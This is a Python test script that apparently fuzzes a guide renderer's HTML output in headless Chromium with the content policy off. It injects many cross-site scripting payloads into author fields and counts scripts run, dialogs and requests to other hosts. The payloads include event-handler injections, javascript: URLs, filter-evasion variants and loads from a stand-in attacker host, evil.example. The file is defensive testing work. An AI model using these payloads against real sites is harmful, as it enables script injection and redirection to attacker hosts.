"""Loads the guide in Chromium with one payload after another in every field that an author can write.

    python -m tests.site.payloads [--most N]

Counted for each: the fields it stands in, scripts run, dialogs, and requests to other hosts. The policy is switched off.
"""

import argparse
import sys
import tempfile
from pathlib import Path

from playwright.sync_api import Dialog, Request

from ketaguide.loading.reader import read_guide
from ketaguide.render.html import one_file
from ketaguide.resolve.view import GuideView
from tests.editions import STANDARD
from tests.site.conftest import chromium
from tests.site.hostile import harm
from tests.site.test_hostile import harmful

_RUN = (
    "<script>pwned()</script>", "<img src=x onerror=pwned()>", "<svg onload=pwned()>", "<svg/onload=pwned()>",
    "<body onload=pwned()>", "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=javascript:parent.pwned()>", "<details open ontoggle=pwned()>x</details>",
    "<video><source onerror=pwned()></video>", "<audio src=x onerror=pwned()>", "<input autofocus onfocus=pwned()>",
    "<style>@import 'https://evil.example/x'</style>", "<math><mtext><script>pwned()</script>",
    "<base href=https://evil.example/>", "<link rel=stylesheet href=https://evil.example/x>",
    "<object data=javascript:pwned()>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=javascript:pwned()><button>x</button></form>", "<script>alert(1)</script>",
    "<img src=https://evil.example/x.png>",
    "javascript:pwned()", "&lt;script&gt;pwned()&lt;/script&gt;", "&#60;script&#62;pwned()&#60;/script&#62;",
    "\\u003cscript\\u003e", "<scr<script>ipt>pwned()</script>", "<ScRiPt>pwned()</sCrIpT>",
    "<script src=//evil.example/x></script>", "<x onclick=pwned()>",
)  # fmt: skip
_OUT = ("", '"', "'", '">', "'>", "-->", "]]>", "</script>", "</style>", "</textarea>", "</title>", "</details>", "\"'><!--")
"""Prefixes that escape from an attribute, a comment or an element."""


def payloads() -> list[str]:
    """Every way out before everything that runs."""
    return [out + run for run in _RUN for out in _OUT]


def main() -> int:
    """Load them all and print the figures."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--most", type=int, default=10_000, help="stop after so many payloads, taken evenly from all")
    asked = parser.parse_args()
    guide = read_guide(Path(__file__).parents[1] / "guides" / "kitchen_sink").guide
    assert guide is not None
    every = payloads()
    every = every[:: max(1, -(-len(every) // asked.most))]
    ran, dialogs, off, places, payload = list[str](), list[str](), list[str](), 0, ""

    def dismissed(dialog: Dialog) -> None:
        dialogs.append(payload)
        dialog.dismiss()

    def requested(request: Request) -> None:
        if not request.url.startswith(("file:", "data:")):
            off.append(request.url)

    with chromium() as browser, tempfile.TemporaryDirectory() as folder:
        context = browser.new_context(bypass_csp=True)
        context.expose_function("pwned", lambda: ran.append(payload))
        tab = context.new_page()
        tab.on("dialog", dismissed)
        tab.on("request", requested)
        page = Path(folder) / "guide.html"
        for payload in every:
            bad = harmful(guide, harm(guide, payload))
            text = one_file(bad, GuideView(bad, STANDARD))
            places += text.count("pwned()") + text.count("evil.example")
            page.write_text(text, encoding="utf-8")
            tab.goto(page.as_uri())
            tab.evaluate("for (const fold of document.querySelectorAll('details')) fold.open = true")
        context.close()
    said = f"{len(ran)} scripts run, {len(dialogs)} dialogs, {len(off)} requests elsewhere"
    print(f"{len(every)} payloads in {places} places: {said}")
    for fault in sorted({*ran, *dialogs, *off}):
        print(f"  {fault}")
    return int(bool(ran or dialogs or off))


if __name__ == "__main__":
    sys.exit(main())
